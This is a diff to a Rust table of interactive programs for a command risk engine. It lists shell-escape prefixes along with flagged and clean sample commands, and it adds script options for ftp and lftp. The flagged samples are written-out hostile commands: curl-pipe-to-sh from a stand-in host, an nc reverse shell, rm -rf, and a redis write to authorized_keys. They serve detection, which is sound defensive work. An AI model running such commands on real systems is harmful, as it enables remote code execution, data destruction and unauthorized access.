@@ -18,6 +18,11 @@ pub struct Prompt {
     /// Line prefixes that load the shared library the rest of the line
     /// names (Tcl's `load`).
     pub loads: &'static [&'static str],
+    /// Options whose value is a script for the prompt, its commands split
+    /// on `;` (lftp's `-c CMDS`, `-e CMDS`); one ending in `:` takes a
+    /// file glued to it, read when the line wrote it (ftp.exe's
+    /// `-s:FILE`).
+    pub script_opts: &'static [&'static str],
     /// Where the knowledge comes from.
     pub source: &'static str,
     /// Commands the risk engine must flag.
@@ -33,24 +38,37 @@ pub const PROMPTS: &[Prompt] = &[
         escapes: &["!"],
         lang: Lang::Perl,
         loads: &[],
+        script_opts: &[],
         source: "https://perldoc.perl.org/CPAN#Interactive-Mode (! evaluates Perl); GTFOBins cpan",
         flagged: &["echo '! exec \"/bin/sh &\"' | PERL_MM_USE_DEFAULT=1 cpan"],
         clean: &["echo 'install JSON' | cpan"],
     },
     Prompt {
-        names: &["ftp", "lftp", "sftp", "tftp", "smbclient", "ed", "red"],
+        names: &["ftp", "sftp", "tftp", "smbclient", "ed", "red"],
         escapes: &["!"],
         lang: Lang::Shell,
         loads: &[],
-        source: "man:ftp(1), man:sftp(1), man:smbclient(1), man:ed(1) (! runs a shell command); GTFOBins ftp, sftp, smbclient, ed",
-        flagged: &["echo '!sh' | ftp", "printf '!curl -s http://x.example/a | sh\\n' | sftp dev@example.com", "ed notes.txt <<< '!/bin/sh'"],
-        clean: &["ed -s notes.txt <<< 'w'"],
+        script_opts: &["-s:"],
+        source: "man:ftp(1), man:sftp(1), man:smbclient(1), man:ed(1) (! runs a shell command); GTFOBins ftp, sftp, smbclient, ed; https://learn.microsoft.com/windows-server/administration/windows-commands/ftp (-s:FILENAME, a file of ftp commands), LOLBAS Ftp.exe",
+        flagged: &["echo '!sh' | ftp", "printf '!curl -s http://x.example/a | sh\\n' | sftp dev@example.com", "ed notes.txt <<< '!/bin/sh'", "echo !calc.exe > ftpcommands.txt && ftp -s:ftpcommands.txt"],
+        clean: &["ed -s notes.txt <<< 'w'", "echo get x > c.txt && ftp -s:c.txt"],
+    },
+    Prompt {
+        names: &["lftp"],
+        escapes: &["!"],
+        lang: Lang::Shell,
+        loads: &[],
+        script_opts: &["-c", "-e"],
+        source: "man:lftp(1) (-c COMMANDS, -e COMMANDS; ! runs a shell command); GTFOBins lftp",
+        flagged: &["lftp -c '!rm -rf ~/notes'", "lftp -e '!/bin/sh'", "echo '!sh' | lftp"],
+        clean: &["lftp -c 'get x; bye' ftp.example.com"],
     },
     Prompt {
         names: &["gdb", "gdb-multiarch", "lldb"],
         escapes: &["shell ", "!", "platform shell "],
         lang: Lang::Shell,
         loads: &[],
+        script_opts: &[],
         source: "https://sourceware.org/gdb/current/onlinedocs/gdb.html/Shell-Commands.html; https://lldb.llvm.org/use/map.html (platform shell)",
         flagged: &[
             "gdb -batch <<< 'shell id'",
@@ -64,6 +82,7 @@ pub const PROMPTS: &[Prompt] = &[
         escapes: &["\\!", "system "],
         lang: Lang::Shell,
         loads: &[],
+        script_opts: &[],
         source: "https://dev.mysql.com/doc/refman/8.0/en/mysql-commands.html (system, \\!); GTFOBins mysql",
         flagged: &["echo '\\! curl -s http://x.example/a | sh' | mysql", "mysql -u root <<< 'system /bin/sh'"],
         clean: &["echo 'select 1;' | mysql -u app app"],
@@ -73,6 +92,7 @@ pub const PROMPTS: &[Prompt] = &[
         escapes: &["\\!"],
         lang: Lang::Shell,
         loads: &[],
+        script_opts: &[],
         source: "https://www.postgresql.org/docs/current/app-psql.html (\\! [command]); GTFOBins psql",
         flagged: &["psql <<'EOF'\n\\! rm -rf ~\nEOF"],
         clean: &["psql -d app <<< 'select count(*) from users;'"],
@@ -82,6 +102,7 @@ pub const PROMPTS: &[Prompt] = &[
         escapes: &[".shell ", ".system "],
         lang: Lang::Shell,
         loads: &[],
+        script_opts: &[],
         source: "https://sqlite.org/cli.html (.shell, .system); GTFOBins sqlite3",
         flagged: &["printf '.shell /bin/sh\\n' | sqlite3"],
         clean: &["printf '.tables\\n' | sqlite3 app.db"],
@@ -91,6 +112,7 @@ Prompt {
         escapes: &["esyscmd(", "syscmd("],
         lang: Lang::Shell,
         loads: &[],
+        script_opts: &[],
         source: "https://www.gnu.org/software/m4/manual/m4.html#Syscmd (syscmd, esyscmd run shell commands); GTFOBins m4",
         flagged: &["echo 'esyscmd(nc x.example 12345 -e /bin/sh)' | m4"],
         clean: &["echo 'define(NAME, 1)NAME' | m4"],
@@ -100,6 +122,7 @@ Prompt {
         escapes: &["config set dir ", "config set dbfilename ", "eval "],
         lang: Lang::Lua,
         loads: &["module load "],
+        script_opts: &[],
         source: "https://redis.io/docs/latest/commands/config-set/ (dir and dbfilename choose where SAVE writes); https://redis.io/docs/latest/commands/eval/ (Lua); https://redis.io/docs/latest/commands/module-load/; GTFOBins redis",
         flagged: &[
             "redis-cli -h 127.0.0.1 <<'EOF'\nconfig set dir /home/dev/.ssh/\nconfig set dbfilename authorized_keys\nsave\nEOF",
@@ -112,6 +135,7 @@ Prompt {
         escapes: &["exec ", "open |", "spawn "],
         lang: Lang::Tcl,
         loads: &["load "],
+        script_opts: &[],
         source: "https://www.tcl.tk/man/tcl/TclCmd/exec.html, load.html; GTFOBins tclsh (shell, library load)",
         flagged: &["echo 'load /tmp/lib.so x' | tclsh", "echo 'exec /bin/sh <@stdin >@stdout' | tclsh"],
         clean: &["echo 'puts [expr 1+1]' | tclsh"],
